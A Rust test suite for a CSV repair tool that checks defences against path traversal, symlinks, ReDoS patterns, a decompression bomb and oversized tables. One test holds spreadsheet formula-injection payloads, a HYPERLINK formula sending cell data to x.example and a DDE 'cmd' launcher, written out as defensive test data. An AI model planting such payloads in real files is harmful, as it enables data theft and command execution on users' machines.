//! Rules, tables and files of runs that come from strangers: what they may not read, and what they cannot do.

use std::fs;
use std::io::Write;

use snapbox::str;

use crate::session::{CITIES, CITY_RULE, Session};

/// A folder `in` with a table and rules, beside a file that is no business of theirs.
fn beside_a_secret(rules: &str) -> Session {
    let session = Session::with(&[("secret.csv", "zip,city\n00184,Rome\n10115,Berlin\n"), ("secret.rules", CITY_RULE)]);
    fs::create_dir_all(session.path().join("in/deep")).unwrap();
    session.write("in/cities.csv", CITIES.as_bytes());
    session.write("in/deep/cities.csv", b"zip,city\n00184,Rome\n10115,Berlin\n");
    session.write("in/x.rules", rules.as_bytes());
    session
}

#[test]
fn rules_read_nothing_outside_their_folder_unless_they_may() {
    let lookup = |file: &str| format!("lookup \"{file}\" on zip = zip set city = city\n");
    let session = beside_a_secret(&lookup("../secret.csv"));
    let said = session.run("repair in/cities.csv -r in/x.rules");
    let told = "error[outside-folder]: `../secret.csv` lies outside the folder of the rule file\n --> in/x.rules:1:8\n";
    assert!(said.starts_with("exit 2") && said.contains(told) && said.contains("`--allow-outside`"), "{said}");
    assert!(!session.names().contains(&"cities.clean.csv".to_owned()), "{:?}", session.names());
    session.done("repair in/cities.csv -r in/x.rules --allow-outside --dry-run");
    let absolute = session.path().join("secret.csv").display().to_string();
    for rules in [
        lookup(&absolute),
        lookup("deep/../../secret.csv"),
        lookup("../none.csv"),
        "use \"../secret.rules\"\n".to_owned(),
        "column city in \"../secret.csv\".city\n".to_owned(),
    ] {
        session.write("in/x.rules", rules.as_bytes());
        for line in ["repair in/cities.csv -r in/x.rules", "check in/x.rules", "detect in/cities.csv -r in/x.rules"] {
            let said = session.run(line);
            assert!(said.starts_with("exit 2") && said.contains("error[outside-folder]"), "{rules}{line}: {said}");
        }
    }
    session.write("in/x.rules", lookup("deep/cities.csv").as_bytes());
    session.done("repair in/cities.csv -r in/x.rules --dry-run");
    // A rule file that another one uses may read what that one may.
    session.write("in/deep/y.rules", lookup("../cities.csv").as_bytes());
    session.write("in/x.rules", b"use \"deep/y.rules\"\n");
    session.done("repair in/cities.csv -r in/x.rules --dry-run");
    assert!(session.run("repair in/cities.csv -r in/deep/y.rules --dry-run").contains("error[outside-folder]"));
}

#[cfg(unix)]
#[test]
fn links_out_of_the_folder_and_pipes_in_it_are_not_read() {
    let session = beside_a_secret("lookup \"link.csv\" on zip = zip set city = city\n");
    std::os::unix::fs::symlink("../secret.csv", session.path().join("in/link.csv")).unwrap();
    let said = session.run("repair in/cities.csv -r in/x.rules");
    assert!(said.contains("error[outside-folder]: `link.csv`"), "{said}");
    session.write("in/x.rules", b"use \"pipe.rules\"\n");
    let pipe = session.path().join("in/pipe.rules");
    assert!(std::process::Command::new("mkfifo").arg(pipe).status().unwrap().success());
    let said = session.run("check in/x.rules");
    assert!(said.contains("error[not-a-file]: `pipe.rules` is a device, a pipe or a socket"), "{said}");
}

#[test]
fn expressions_that_blow_up_are_told_or_take_linear_time() {
    let long = "a".repeat(200_000);
    let session = Session::with(&[("t.csv", &format!("x,y\n{long},1\n{long}b,2\nab,3\n"))]);
    // What backtracks takes 2 to the length of the text for these.
    for pattern in ["(a|a)*b", "(a*)*b", "(a+)+b", "(.*a){9}b"] {
        session.write("t.rules", format!("column x text /{pattern}/\n").as_bytes());
        let said = session.run("detect t.csv -r t.rules --format json");
        assert!(said.starts_with("exit 1"), "{pattern}: {}", &said[..said.len().min(500)]);
    }
    for pattern in ["((a{1000}){1000}){1000}", "\\pL{100000}", "(((a{100}){100}){100}){100}"] {
        session.write("t.rules", format!("column x text /{pattern}/\n").as_bytes());
        let said = session.run("detect t.csv -r t.rules");
        assert!(said.starts_with("exit 2") && said.contains("error[bad-pattern]"), "{pattern}: {said}");
        assert!(said.contains("t.rules:1:15") && said.contains("help: repeat less"), "{pattern}: {said}");
    }
    session.write("t.rules", format!("column x text /{}a{}/\n", "(".repeat(100_000), ")".repeat(100_000)).as_bytes());
    assert!(session.run("check t.rules").starts_with("exit 2"));
}

#[test]
fn a_small_file_that_stands_for_a_large_one_is_not_unpacked_to_its_end() {
    let session = Session::with(&[]);
    let mut packed = zstd::stream::write::Encoder::new(Vec::new(), 1).unwrap();
    packed.write_all(b"x,y\n").unwrap();
    let row = [&vec![b'a'; 1 << 20][..], b",1\n"].concat();
    (0..1025).for_each(|_| packed.write_all(&row).unwrap());
    session.write("bomb.csv.zst", &packed.finish().unwrap());
    session.fails(
        "detect bomb.csv.zst",
        str![[r#"
exit 2
--- stderr
error[too-large]: `bomb.csv.zst` is small and stands for more than 1024 MiB, as files do that are made to fill the memory
 |
 = help: if it comes from where it should, say how much memory it may take, such as `--memory 16GiB`


"#]],
    );
}

#[test]
fn long_rows_long_cells_and_wide_headers_are_read_or_told_in_time_that_grows_with_them() {
    let fields = ",1".repeat(1_000_000);
    let cell = "x".repeat(3 << 20);
    let session = Session::with(&[
        ("fields.csv", &format!("{CITIES}00184,Rome{fields}\n")),
        ("cell.csv", &format!("{CITIES}00184,\"{cell}\"\n")),
        ("wide.csv", &format!("x{fields}\n1{fields}\n")),
        ("same.csv", &format!("x{}\n1{}\n", ",x".repeat(3000), ",1".repeat(3000))),
        ("cities.rules", CITY_RULE),
        ("same.rules", "unique x\n"),
    ]);
    session.done("repair fields.csv -r cities.rules");
    let clean = session.read("fields.csv").replace("Rom\n", "Rome\n");
    assert!(session.read("fields.clean.csv") == clean, "what is beyond the columns stays");
    let said = session.done("repair cell.csv -r cities.rules");
    assert!(said.len() < 10_000, "a cell is not told whole");
    session.fails(
        "detect wide.csv -r cities.rules",
        str![[r#"
exit 2
--- stderr
error[too-many-columns]: `wide.csv`, line 1: the header has 1000001 fields, and a table has 100000 columns at the most
 |
 = help: is the delimiter another (`--delimiter CHAR`), or a line end missing? else split the table by columns


"#]],
    );
    let said = session.run("detect same.csv -r same.rules");
    assert!(said.contains("2980 more of 3001 columns are renamed in this way"), "{}", &said[..said.len().min(3000)]);
}

#[test]
fn formulas_in_a_repairs_file_are_text_where_asked_and_come_back_exactly() {
    let formula = "=HYPERLINK(\"http://x.example/?\"&A1)";
    let quoted = formula.replace('"', "\"\"");
    let table =
        CITIES.replace("00184,Rom\n", &format!("00184,\"{quoted}\"\n")) + "10115,'=x\n00184,+cmd|' /C calc'!A0\n";
    let session = Session::with(&[("t.csv", &table), ("t.rules", CITY_RULE)]);
    session.done("repair t.csv -r t.rules --review-at 0");
    let plain = session.read("t.repairs.csv");
    assert!(
        plain.contains(&format!(",\"{quoted}\",")) && plain.contains(",'=x,") && plain.contains(",+cmd|"),
        "{plain}"
    );
    let clean = session.read("t.clean.csv");
    session.done("repair t.csv -r t.rules --review-at 0 --escape-formulas --force");
    let escaped = session.read("t.repairs.csv");
    assert!(escaped.contains(&format!(",\"'{quoted}\",")), "{escaped}");
    assert!(escaped.contains(",''=x,") && escaped.contains(",'+cmd|"), "{escaped}");
    assert_eq!(session.read("t.clean.csv"), clean, "tables hold what they hold");
    session.done("apply t.repairs.csv t.csv -o again.csv");
    assert_eq!(session.read("again.csv"), clean);
    session.done("apply t.repairs.csv t.clean.csv --undo -o back.csv");
    assert_eq!(session.read("back.csv"), table);
    // Findings name columns and values.
    session.write("f.csv", b"=1+1,city\n00184,Rome\n00184,Rom\n00184,Rome\n");
    session.write("f.rules", b"fd \"=1+1\" -> city\nunique \"=1+1\"\n");
    let found = session.run("detect f.csv -r f.rules --format csv --escape-formulas");
    assert!(found.contains(",'=1+1,") && !found.contains(",=1+1,"), "{found}");
}

/// Numbers that no run writes.
const NUMBERS: [&str; 6] = ["0", "18446744073709551615", "4294967296", "9223372036854775808", "-1", "1e300"];

#[test]
fn whatever_numbers_the_metadata_of_a_run_claim_the_program_ends_with_a_message() {
    let session = Session::with(&[
        ("t.csv", "zip,city,note\n00184,Rome,\n00184,Rome,\"a\"\n00184,Rom,b\n00184,Rome,c\n00184\n00184,Rome,d\n"),
        ("t.rules", "fd zip -> city\ndeny zip = \"00184\" and note = \"d\" hard\n"),
    ]);
    session.done("repair t.csv -r t.rules --review-at 0");
    let whole = session.read("t.repairs.meta.json");
    let places: Vec<_> = numbers(&whole);
    assert!(places.len() > 20, "{whole}");
    for (number, place) in places.iter().enumerate() {
        let claim = NUMBERS[number % NUMBERS.len()];
        session.write("t.repairs.meta.json", [&whole[..place.start], claim, &whole[place.end..]].concat().as_bytes());
        for line in ["apply t.repairs.csv t.csv -o a.csv", "apply t.repairs.csv t.clean.csv --undo -o b.csv"] {
            let output = session.output(&format!("{line} --force"));
            let told = String::from_utf8_lossy(&output.stderr);
            let is_well = matches!(output.status.code(), Some(0 | 2)) && !told.contains("panicked");
            assert!(is_well, "{line} where {} is {claim}: {told}", &whole[place.start.saturating_sub(40)..place.end]);
        }
    }
}

/// Where the numbers are in JSON, those in texts left out.
fn numbers(json: &str) -> Vec<std::ops::Range<usize>> {
    let (mut found, mut in_text, mut at) = (Vec::new(), false, 0);
    while at < json.len() {
        match json.as_bytes()[at] {
            b'"' => in_text = !in_text,
            byte if byte.is_ascii_digit() && !in_text => {
                let length = json[at..].bytes().take_while(|byte| byte.is_ascii_digit() || *byte == b'.').count();
                found.push(at..at + length);
                at += length - 1;
            }
            _ => {}
        }
        at += 1;
    }
    found
}
